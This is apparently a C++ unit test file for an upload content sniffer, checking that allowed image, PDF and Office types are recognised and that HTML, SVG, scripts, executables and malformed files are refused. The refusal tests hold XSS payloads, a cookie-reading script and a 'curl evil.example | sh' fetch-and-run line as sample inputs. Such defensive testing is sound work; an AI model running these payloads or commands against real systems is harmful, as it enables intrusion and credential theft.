#include "actors/files/sniff.hpp"

#include <gtest/gtest.h>

#include "tests/support/file_samples.hpp"

namespace sb::files {
namespace {

std::string type_of(const std::string& bytes) { return sniff(bytes).content_type; }

TEST(FilesSniff, EveryAllowedType_IsRecognisedFromItsBytes) {
  EXPECT_EQ(type_of(test::png_1x1()), "image/png");
  EXPECT_EQ(type_of(test::jpeg_8x8()), "image/jpeg");
  EXPECT_EQ(type_of(test::gif_1x1()), "image/gif");
  EXPECT_EQ(type_of(test::webp_1x1()), "image/webp");
  EXPECT_EQ(type_of(test::pdf_minimal()), "application/pdf");
  EXPECT_EQ(type_of(test::docx_minimal()), kDocxType);
  EXPECT_EQ(type_of(test::xlsx_minimal()), kXlsxType);
  EXPECT_EQ(type_of("Order 1234\r\nGrüße, 10 € off\tthanks\f\n"), "text/plain");
  EXPECT_EQ(type_of("\xEF\xBB\xBFwith a byte order mark"), "text/plain");
}

TEST(FilesSniff, HtmlSvgAndXml_AreRefusedWhateverTheyAreCalled) {
  // The sniffer never sees the name or the declared type: "cat.png" with image/png is just bytes.
  for (std::string forged : {
           "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
           "<html><img src=x onerror=alert(1)>",
           "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
           "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
           "\xEF\xBB\xBF  \r\n\t<svg/>",
           "\n\n   <script>document.cookie</script>",
       }) {
    auto r = sniff(forged);
    EXPECT_FALSE(r.ok()) << forged;
    EXPECT_FALSE(r.reason.empty());
  }
}

TEST(FilesSniff, ScriptsAndExecutables_AreRefused) {
  EXPECT_FALSE(sniff("#!/bin/sh\ncurl evil.example | sh\n").ok());
  EXPECT_FALSE(sniff("<script>fetch('/api/v1/me')</script>").ok());  // "script.png"
  EXPECT_FALSE(sniff(std::string("\x7F"
                                 "ELF\x02\x01\x01\x00\x00\x00",
                                 10))
                   .ok());
  EXPECT_FALSE(sniff(std::string("MZ\x90\x00\x03\x00\x00\x00\x04\x00", 10)).ok());
}

TEST(FilesSniff, ZipsThatAreNotWordOrExcel_AreRefused) {
  EXPECT_FALSE(sniff(test::zip_stored({{"readme.txt", "hello"}})).ok());
  EXPECT_FALSE(sniff(test::zip_stored({{"word/document.xml", "<w/>"}})).ok());  // no content types
  EXPECT_FALSE(
      sniff(test::zip_stored({{"[Content_Types].xml", "<Types/>"}, {"ppt/slide1.xml", "<p/>"}}))
          .ok());
  // a document that claims to be both is not guessed at
  EXPECT_FALSE(sniff(test::zip_stored({{"[Content_Types].xml", "<Types/>"},
                                       {"word/document.xml", "<w/>"},
                                       {"xl/workbook.xml", "<x/>"}}))
                   .ok());
}

TEST(FilesSniff, TruncatedFiles_AreRefused) {
  auto png = test::png_1x1();
  for (std::size_t cut : {std::size_t{8}, std::size_t{20}, png.size() - 12, png.size() - 1})
    EXPECT_FALSE(sniff(png.substr(0, cut)).ok()) << cut;
  auto jpeg = test::jpeg_8x8();
  EXPECT_FALSE(sniff(jpeg.substr(0, jpeg.size() - 2)).ok());
  EXPECT_FALSE(sniff(jpeg.substr(0, 30)).ok());
  auto gif = test::gif_1x1();
  EXPECT_FALSE(sniff(gif.substr(0, gif.size() - 1)).ok());
  auto webp = test::webp_1x1();
  EXPECT_FALSE(sniff(webp.substr(0, webp.size() - 4)).ok());
  auto pdf = test::pdf_minimal();
  EXPECT_FALSE(sniff(pdf.substr(0, pdf.size() / 2)).ok());  // no %%EOF: also not taken for text
  auto docx = test::docx_minimal();
  EXPECT_FALSE(sniff(docx.substr(0, docx.size() - 10)).ok());
  EXPECT_FALSE(sniff(docx.substr(0, docx.size() / 2)).ok());
}

TEST(FilesSniff, TextWithNulOrControlsOrBrokenUtf8_IsRefused) {
  EXPECT_FALSE(sniff(std::string("hello\0world", 11)).ok());
  EXPECT_FALSE(sniff("bell\a").ok());
  EXPECT_FALSE(sniff("escape \x1b[31m").ok());
  EXPECT_FALSE(sniff("C1 \xC2\x85 control").ok());
  EXPECT_FALSE(sniff("latin-1 \xE9t\xE9").ok());
  EXPECT_FALSE(sniff("overlong \xC0\xAF").ok());
  EXPECT_FALSE(sniff("surrogate \xED\xA0\x80").ok());
  EXPECT_FALSE(sniff("").ok());
}

TEST(FilesSniff, BytesAfterACompleteImage_AreTolerated) {
  // Some phones append a trailer after the JPEG end marker.
  EXPECT_EQ(type_of(test::jpeg_8x8() + "SEFT trailer"), "image/jpeg");
  EXPECT_EQ(type_of(test::png_1x1() + "x"), "image/png");
}

TEST(FilesSniff, Utf8Validation_FollowsTheStandard) {
  EXPECT_TRUE(valid_utf8("plain ascii"));
  EXPECT_TRUE(valid_utf8("\xF0\x9F\x98\x80 emoji, \xE2\x82\xAC euro"));
  EXPECT_FALSE(valid_utf8("\xF4\x90\x80\x80"));  // above U+10FFFF
  EXPECT_FALSE(valid_utf8("\xE2\x82"));          // truncated sequence
  EXPECT_FALSE(valid_utf8("\x80"));              // stray continuation byte
}

}  // namespace
}  // namespace sb::files
